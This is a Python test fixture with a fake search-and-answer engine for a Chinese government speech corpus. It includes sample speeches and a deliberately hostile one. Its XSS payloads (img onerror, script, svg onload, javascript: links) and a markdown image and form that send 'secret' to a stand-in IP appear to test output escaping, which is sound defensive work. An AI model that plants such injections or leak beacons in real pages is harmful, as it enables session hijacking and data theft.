"""A small engine with the real one's methods over speeches written for these tests; no index, no model."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from itertools import pairwise
from typing import Any

from speechrag.errors import IndexMissing
from speechrag.index.store import COPY, INDEXED, SKIPPED, LedgerEntry
from speechrag.records import (
    Alternative,
    Answer,
    AnswerSentence,
    Citation,
    CleanDocument,
    Document,
    Hit,
    IndexManifest,
    Outline,
    OutlinePoint,
    Passage,
    Phrase,
    Query,
    Repair,
    Section,
    Slot,
    Speech,
    Warning_,
)
from speechrag.text import bigrams, sentence_spans
from speechrag.writing.outlines.copying import rewarned
from speechrag.writing.outlines.expand import expanded
from speechrag.writing.quotations import QuotationChecker, QuotationReport

INFORMATION = """各位领导，同志们：
今天召开全区信息工作会议，主要任务是总结上半年工作，部署下半年任务。下面，我讲三点意见。
一、认清形势，增强做好信息工作的责任感
信息是领导决策的依据。上半年全区共报送信息一千二百六十条，被市里采用二百零四条，采用量居全市第三位。成绩来之不易，但差距同样明显：有的单位全年没有报送一条有分量的信息，有的单位报喜不报忧。
二、突出重点，提高信息报送的质量
（一）要紧扣中心选题
围绕区委区政府的重点工作找题目，多报群众关心、领导关注的事。选题会每两周开一次，由办公室主任主持。
（二）要注重调查研究
一是走得下去，每季度到基层不少于五次；二是沉得下来，与干部群众面对面谈；三是提得上来，把零散的情况归纳成可供决策的建议。
（三）要严格报送时限
重大突发事件最迟不得晚于事发后两小时上报；特别紧急的情况应当先用电话报告，半小时内补报文字材料。迟报、漏报、瞒报的，在全区通报批评。
三、加强领导，为信息工作提供保障
各单位主要负责同志是信息工作的第一责任人，分管领导具体抓，信息员专人干。信息员队伍要保持相对稳定，每年集中培训不少于两次。
同志们，信息工作使命光荣。让我们振奋精神，扎实工作，为全区改革发展作出新的贡献！"""

SAFETY = """同志们：
这次全县安全生产工作会议，是经县政府研究决定召开的。刚才，应急管理局的同志通报了前三季度的情况，我都同意。下面，我强调几点。
一、提高认识，绷紧安全生产这根弦
今年以来全县共排查隐患三千四百一十二处，整改率百分之九十六点二。剩下的都是难啃的骨头，一处也不能放过。
二、突出重点，抓好隐患排查整治
（一）抓矿山和危险化学品
对停产整顿的企业，每天至少巡查一次。凡发现擅自复工的，一律从严处理。
（二）抓道路交通
春运期间，县乡道路急弯陡坡路段的警示标志必须全部到位。
（三）抓人员密集场所
排查发现的一般隐患，七日内整改到位；重大隐患挂牌督办，整改期限最长不超过三十日。
三、压实责任，确保各项措施落到实处
党政同责、一岗双责、齐抓共管、失职追责。主要负责人每月带队检查不少于一次，检查情况书面报县安委会办公室。"""

PETITION = """同志们：
信访工作是了解民情、集中民智、维护民利、凝聚民心的工作。根据会议安排，我讲两点意见。
一、正视问题，切实增强做好信访工作的紧迫感
上半年全县受理群众来信来访八百七十三件，同比下降百分之十一点四，但重复信访仍占三成左右。
二、强化措施，努力把矛盾化解在基层
（一）落实领导干部接访制度
县级领导每月接访不少于一天，乡镇党政主要负责同志每周接访不少于一天。
（二）落实首办责任
各级各部门主要负责人是信访工作的第一责任人。首次办理的单位要一办到底，六十日内办结，不得推诿。
（三）加强督查问责
对久拖不决、激化矛盾的，由县委督查室会同信访局挂牌督办。"""

MALICIOUS_TITLE = '在<img src=x onerror="window.__pwn=1">网络安全工作会议上的讲话'
MALICIOUS = "\n".join(
    (
        "同志们：<script>window.__pwn=2</script>",
        '一、<b onmouseover="window.__pwn=3">严防</b>网页木马传播',
        '网页木马常藏在这样的代码里：<img src=x onerror="window.__pwn=4"><svg onload=window.__pwn=5>，'
        "点开链接 [领取补贴](javascript:window.__pwn=6) 就会中招。",
        "二、不信图片诱饵",
        "群发邮件里的图片 ![收益](http://198.51.100.7/leak?q=secret) 会把收件人的地址传出去；"
        '形如 <form action="http://198.51.100.7/"><input name=p></form> 的登录框不要填写。',
    )
)

_HEADING = re.compile(r"^(?:([一二三四五六七八九十]+、)|(（[一二三四五六七八九十]+）))(.{2,40})$")
_ENOUGH = 3  # shared character pairs that count as evidence


def make_speech(number: int, title: str, text: str, **metadata: Any) -> Speech:
    """Return a speech with its 一、 and （一） lines as sections."""
    heads: list[tuple[int, int, str, str, int]] = []
    position = 0
    for line in text.split("\n"):
        if found := _HEADING.match(line):
            heads.append((1 if found[1] else 2, position, found[1] or found[2], found[3], position + len(line)))
        position += len(line) + 1
    sections = []
    for index, (level, start, label, heading, body) in enumerate(heads):
        end = next((later[1] for later in heads[index + 1 :] if later[0] <= level), len(text))
        sections.append(Section(heading, level, start, end, label=label, body=body))
    doc = f"d{number:03d}"
    source = f"{doc}.txt"
    return Speech(f"{doc}-1", doc, source, 1, title, text, 0, len(text), tuple(sections), metadata=metadata)


SPEECHES = (
    make_speech(1, "在全区信息工作会议上的讲话", INFORMATION, year=2023, level="区", organ="党委办", genre="讲话"),
    make_speech(2, "在全县安全生产工作会议上的讲话", SAFETY, year=2024, level="县", organ="政府", genre="讲话"),
    replace(
        make_speech(3, "在全县信访工作座谈会上的讲话", PETITION, year=2022, level="县", organ="信访局", genre="讲话"),
        quality={"truncated": True},
    ),
    make_speech(4, MALICIOUS_TITLE, MALICIOUS, year=2021, level="市", organ="<i>网信办</i>", genre="讲话"),
)


SUGGESTIONS = ("信访工作的第一责任人是谁？", "<img src=x onerror=window.__pwn=9>怎样防范？")
LEDGER = (
    *(LedgerEntry(speech.source, "0" * 64, INDEXED, speech.doc_id) for speech in SPEECHES),
    LedgerEntry("副本.txt", "0" * 64, COPY, "d001.txt"),
    LedgerEntry("旧稿<img src=x onerror=window.__pwn=8>.doc", "0" * 64, SKIPPED, "a doc document needs LibreOffice"),
)


class FakeStore:
    """The texts behind the fake index: each document is one speech, received with a note inside it."""

    def __init__(self, speeches: Mapping[str, Speech]) -> None:
        self._speeches = {speech.doc_id: speech for speech in speeches.values()}

    def ledger(self) -> list[LedgerEntry]:
        return list(LEDGER)

    def document(self, doc_id: str) -> CleanDocument:
        """Return the text with 信息 annotated in the original, and a page counter before part two."""
        text = self._speeches[doc_id].text
        repairs, original, done = [], "", 0
        for found in re.finditer("信息|\n二、", text):
            at = found.end() if found[0] == "信息" else found.start()
            before = "（xìn xī）" if found[0] == "信息" else "\n第 2 页 <b>共</b> 3 页"
            original += text[done:at]
            rule = "pinyin" if found[0] == "信息" else "page-counter"
            repairs.append(Repair(rule, len(original), len(original) + len(before), before, ""))
            original, done = original + before, at
        document = Document(doc_id, self._speeches[doc_id].source, original + text[done:], "0" * 64)
        return CleanDocument(document, text, tuple(repairs))


class FakeEngine:
    """Answers from ``SPEECHES`` by counting shared character pairs; deterministic."""

    def __init__(self, speeches: Sequence[Speech] = SPEECHES, generation: str = "g1") -> None:
        self._speeches = {speech.speech_id: speech for speech in speeches}
        self.store = FakeStore(self._speeches)
        self.histories: list[tuple[str, ...]] = []
        self._passages = {p.passage_id: p for speech in speeches for p in _passages(speech)}
        self.asked: list[str] = []
        self.reads: list[tuple[str, bool]] = []
        self.manifest = IndexManifest(
            1, generation, "2026-11-20T04:00:00+00:00", "0" * 64, "c", "section", "characters", "hash", "f", 8, "ip",
            len(speeches), len(speeches), len(self._passages), len(self._passages), {}, {},
        )  # fmt: skip

    def search(self, query: Query, *, read: bool = False) -> list[Hit]:
        """Return the passages that share the most pairs with the query, best first; ``reads`` keeps what was asked."""
        self.reads.append((query.text, read))
        scored = []
        for passage in self._passages.values():
            speech = self._speeches[passage.speech_id]
            score = _overlap(query.text, "".join(passage.headings) + passage.text)
            if score and _allowed(speech, query.filters):
                scored.append((-score, passage.passage_id))
        ranked = sorted(scored)
        if query.per_speech == 1:
            best = {self._passages[passage_id].speech_id: (score, passage_id) for score, passage_id in reversed(ranked)}
            ranked = sorted(best.values())
        hits = []
        for rank, (score, passage_id) in enumerate(ranked[: query.top_k], start=1):
            passage = self._passages[passage_id]
            speech = self._speeches[passage.speech_id]
            original = self.original(passage.speech_id, passage.start, passage.end)
            copies = 2 if rank == 1 else 0
            hits.append(Hit(rank, -score, passage, speech.source, speech.title, original, {}, speech.metadata, copies))
        return hits

    def excludes(self, filters: Mapping[str, tuple[str, ...]]) -> bool:
        """Tell whether no speech passes the filters."""
        return not any(_allowed(speech, filters) for speech in self._speeches.values())

    def ask(self, question: str, filters: Mapping[str, tuple[str, ...]] = {}, llm: str = "") -> Answer:
        """Quote the two sentences nearest to the question, or refuse."""
        self.asked.append(question)
        hits = self.search(Query(question, 5, filters))
        found = []
        for hit in hits:
            for start, end in sentence_spans(hit.passage.text):
                found.append((-_overlap(question, hit.passage.text[start:end]), hit.rank, start, end, hit))
        found.sort(key=lambda item: item[:4])
        best = [item for item in found[:2] if -item[0] >= _ENOUGH]
        if not best:
            nearest = tuple(hit.passage.passage_id for hit in hits[:3])
            return Answer(question, False, "语料中没有找到能回答这个问题的内容。", nearest=nearest)
        citations = tuple(
            self._citation(number, hit.passage, start, end) for number, (_, _, start, end, hit) in enumerate(best, 1)
        )
        sentences = tuple(AnswerSentence(c.quote, (c.number,)) for c in citations)
        return Answer(question, True, "".join(s.text for s in sentences), sentences, citations)

    def ask_stream(
        self, question: str, filters: Mapping[str, tuple[str, ...]] = {}, llm: str = "", history: Sequence[str] = ()
    ) -> Iterator[Answer]:
        """Yield the answer, then the same with a question to go on with."""
        self.histories.append(tuple(history))
        answer = self.ask(question, filters, llm)
        if answer.supported:
            cited = tuple(replace(c, copies=2 if c.number == 1 else 0) for c in answer.citations)
            answer = replace(answer, citations=cited)
        yield answer
        if answer.supported:
            yield replace(answer, suggestions=SUGGESTIONS)

    def check(self, text: str) -> QuotationReport:
        """Compare with all speeches, as the real engine does with those it finds."""
        return QuotationChecker(lambda _: list(self._speeches), self.speech).check(text)

    def speeches(self) -> Iterator[Speech]:
        return iter(self._speeches.values())

    def expand(self, outline: Outline, path: Sequence[int] = (), llm: str = "") -> Outline:
        """Write points out as the real engine does."""
        return expanded(outline, path, self.speech)

    def warned(self, outline: Outline) -> Outline:
        return rewarned(outline, self.speech)

    def outline(
        self,
        brief: str,
        filters: Mapping[str, tuple[str, ...]] = {},
        llm: str = "",
        overrides: Mapping[str, str] = {},
    ) -> Outline:
        """Return a fixed three-part outline, cited from the first three speeches."""
        citations: list[Citation] = []

        def cite(speech_id: str, words: str) -> int:
            passage = next(p for p in self._passages.values() if p.speech_id == speech_id and words in p.text)
            at = passage.text.index(words)
            citations.append(self._citation(len(citations) + 1, passage, at, at + len(words)))
            return len(citations)

        def point(level: int, heading: str, text: str, *numbers: int, points: tuple[OutlinePoint, ...] = ()) -> Any:
            return OutlinePoint(heading, level, "task", text, numbers, points)

        first = (cite("d001-1", "信息是领导决策的依据。"), cite("d002-1", "一处也不能放过。"))
        topics = cite("d001-1", "选题会每两周开一次，由办公室主任主持。")
        visits = cite("d001-1", "每季度到基层不少于五次")
        limits = (
            cite("d001-1", "重大突发事件最迟不得晚于事发后两小时上报"),
            cite("d003-1", "六十日内办结，不得推诿。"),
        )
        duty = (cite("d001-1", "各单位主要负责同志是信息工作的第一责任人"), cite("d003-1", "是信访工作的第一责任人。"))
        middle = (
            point(2, "紧扣中心选题", "围绕【待补：本县年度重点工作】找题目。", topics),
            point(2, "注重调查研究", "走得下去、沉得下来、提得上来。", visits),
            point(2, "严格报送时限", "重大突发事件最迟不得晚于【待补：时限】上报。", *limits),
        )
        other = Alternative(
            "紧盯<b>重点</b>选题", "围绕【待补：主题】选题。", (citations[topics - 1],), 5, (2019, 2023)
        )
        middle = (replace(middle[0], alternatives=(other,), frequency=4, years=(2016, 2023)), *middle[1:])
        points = (
            point(1, "提高认识，增强做好信息工作的责任感", "讲清信息工作服务决策的作用，点出差距。", *first),
            point(1, "突出重点，提高信息报送的质量", "围绕中心选题，深入调研，严守时限。", points=middle),
            point(1, "加强领导，为信息工作提供保障", "主要负责同志负总责，分管领导具体抓。", *duty),
        )
        return Outline(
            brief,
            ("在全县信息工作会议上的讲话", "提高站位，狠抓落实，推动全县信息工作再上新台阶"),
            "同志们：",
            "今天召开全县信息工作会议，主要任务是总结【待补：时间段】工作，部署下一步任务。下面，我讲三点意见。",
            points,
            "同志们，让我们在【待补：党委】的坚强领导下，扎实工作，开创全县信息工作新局面！",
            tuple(citations),
            tuple(Slot(f"【待补：{what}】", where) for what, where in _SLOTS),
            (Warning_("single_source", "这一点只有一篇讲话的依据，建议补充。", "（一）紧扣中心选题"),),
            {"occasion": "部署会", "speaker": "县委宣传部部长", "audience": "分管领导、信息员", **overrides},
            phrases=(Phrase("task", "set", "抓住<i>牛鼻子</i>，下好先手棋", 3, citations[2]),),
        )

    def speech(self, speech_id: str) -> Speech:
        if speech_id not in self._speeches:
            raise IndexMissing(f"no speech {speech_id}")
        return self._speeches[speech_id]

    def original(self, speech_id: str, start: int, end: int) -> str:
        """Return the span as the "file" has it: in traditional script for one word, a page counter before part two."""
        text = self.speech(speech_id).text
        before = text[start:end].replace("信息", "信息（xìn xī）")
        return before.replace("\n二、", "\n第 2 页 共 3 页\n二、")

    def passage(self, passage_id: str) -> Passage:
        return self._passages[passage_id]

    def facets(self) -> dict[str, list[tuple[str, int]]]:
        counts: dict[str, Counter[str]] = {}
        for speech in self._speeches.values():
            for key, value in speech.metadata.items():
                counts.setdefault(key, Counter())[str(value)] += 1
        return {key: sorted(found.items(), key=lambda item: (-item[1], item[0])) for key, found in counts.items()}

    def _citation(self, number: int, passage: Passage, start: int, end: int) -> Citation:
        speech = self._speeches[passage.speech_id]
        quote = passage.text[start:end]
        left = passage.start + start
        return Citation(
            number, passage.passage_id, speech.speech_id, speech.source, speech.title, quote, left, left + len(quote),
            passage.headings,
        )  # fmt: skip


_SLOTS = (
    ("时间段", "开场"),
    ("本县年度重点工作", "二、（一）紧扣中心选题"),
    ("时限", "二、（三）严格报送时限"),
    ("党委", "结尾"),
)


def _passages(speech: Speech) -> list[Passage]:
    """Cut a speech at its headings."""
    cuts = [0, *(section.start for section in speech.sections), len(speech.text)]
    found = []
    for ordinal, (start, stop) in enumerate(pairwise(cuts), start=1):
        end = len(speech.text[:stop].rstrip("\n"))
        inside = [s for s in speech.sections if s.start <= start < s.end]
        headings = tuple(s.label + s.heading for s in inside)
        found.append(
            Passage(f"{speech.speech_id}.{ordinal}", speech.speech_id, headings, speech.text[start:end], start, end)
        )
    return found


def _overlap(left: str, right: str) -> int:
    return len(set(bigrams(left)) & set(bigrams(right)))


def _allowed(speech: Speech, filters: Mapping[str, tuple[str, ...]]) -> bool:
    return all(str(speech.metadata.get(key)) in values for key, values in filters.items())
